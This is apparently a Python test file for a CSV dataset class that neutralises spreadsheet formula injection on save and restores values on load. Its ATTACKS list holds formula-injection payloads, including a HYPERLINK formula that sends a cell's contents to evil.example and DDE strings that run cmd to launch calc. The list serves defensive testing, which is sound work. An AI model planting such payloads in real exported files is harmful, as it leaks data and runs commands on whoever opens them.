"""No cell of a CSV file is taken for a formula, and what was saved comes back."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from experiment_cycle.datasets.csv_table import CSVTableDataset, guarded, unguarded

ROOT = Path(__file__).parents[2]
STARTS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
ATTACKS = [
    '=HYPERLINK("http://evil.example?x="&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "name\r=1+1",
    "\uff1d1+1",
]
TEXTS = st.text(st.sampled_from("='+-@\t\r\n1.e x\uff1d"), max_size=6) | st.text(max_size=6)


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return text.strip() == text


@given(TEXTS)
def test_no_text_begins_as_a_formula_and_each_comes_back(text: str) -> None:
    written = guarded(text)

    assert unguarded(written) == text
    assert not written.startswith(tuple(STARTS)) or is_number(written)


@given(st.integers() | st.floats(allow_nan=False, allow_infinity=False))
def test_numbers_stay_numbers(number: float) -> None:
    assert guarded(str(number)) == str(number)


def test_a_table_with_attacks_everywhere_is_harmless_and_comes_back(tmp_path: Path) -> None:
    table = pd.DataFrame(
        {
            "=1+1": ATTACKS,
            "level": pd.Categorical([*ATTACKS[:-1], "'=quoted"]),
            "value": [-1.5, 2, -3e-20, 4, 5, 6, None, 8],
            "mixed": ["-1.5", "+2", -3, None, "safe", "-a", "'", 1],
            "yes": [True, False] * 4,
        }
    )
    dataset = CSVTableDataset(filepath=str(tmp_path / "t.csv"), save_args={"index": False})

    dataset.save(table)

    with (tmp_path / "t.csv").open(newline="", encoding="utf-8") as file:
        cells = [cell for line in csv.reader(file) for cell in line]
    assert [c for c in cells if c.startswith(tuple(STARTS)) and not is_number(c)] == []
    assert {"-1.5", "-3e-20", "+2"} <= set(cells)
    found = dataset.load()
    assert list(found.columns) == list(table.columns)
    assert found["=1+1"].tolist() == ATTACKS
    assert found["level"].tolist() == table["level"].tolist()
    pd.testing.assert_series_equal(found["value"], table["value"])
    assert found["mixed"].tolist()[5:7] == ["-a", "'"]
    assert found["yes"].dtype == bool


def test_a_table_that_cannot_be_written_leaves_the_older_one(tmp_path: Path) -> None:
    dataset = CSVTableDataset(filepath=str(tmp_path / "t.csv"), save_args={"index": False})
    dataset.save(pd.DataFrame({"a": [1]}))
    broken = CSVTableDataset(filepath=str(tmp_path / "t.csv"), save_args={"encoding": "ascii"})

    with pytest.raises(Exception, match="ascii"):
        broken.save(pd.DataFrame({"a": ["é"]}))

    assert dataset.load()["a"].tolist() == [1]
    assert [file.name for file in tmp_path.iterdir()] == ["t.csv"]


def described(entry: Any) -> Any:
    return described(entry["dataset"]) if "dataset" in entry else entry


def test_every_csv_file_that_a_run_writes_is_guarded() -> None:
    entries: dict[str, Any] = {}
    for file in (ROOT / "conf").rglob("catalog*.yml"):
        entries |= yaml.safe_load(file.read_text()) or {}
    types = {
        name: described(entry)["type"].rpartition(".")[2]
        for name, entry in entries.items()
        if str(described(entry).get("filepath", "")).endswith(".csv") and "01_raw" not in str(entry)
    }

    assert len(types) >= 5
    assert set(types.values()) == {"CSVTableDataset"}, types
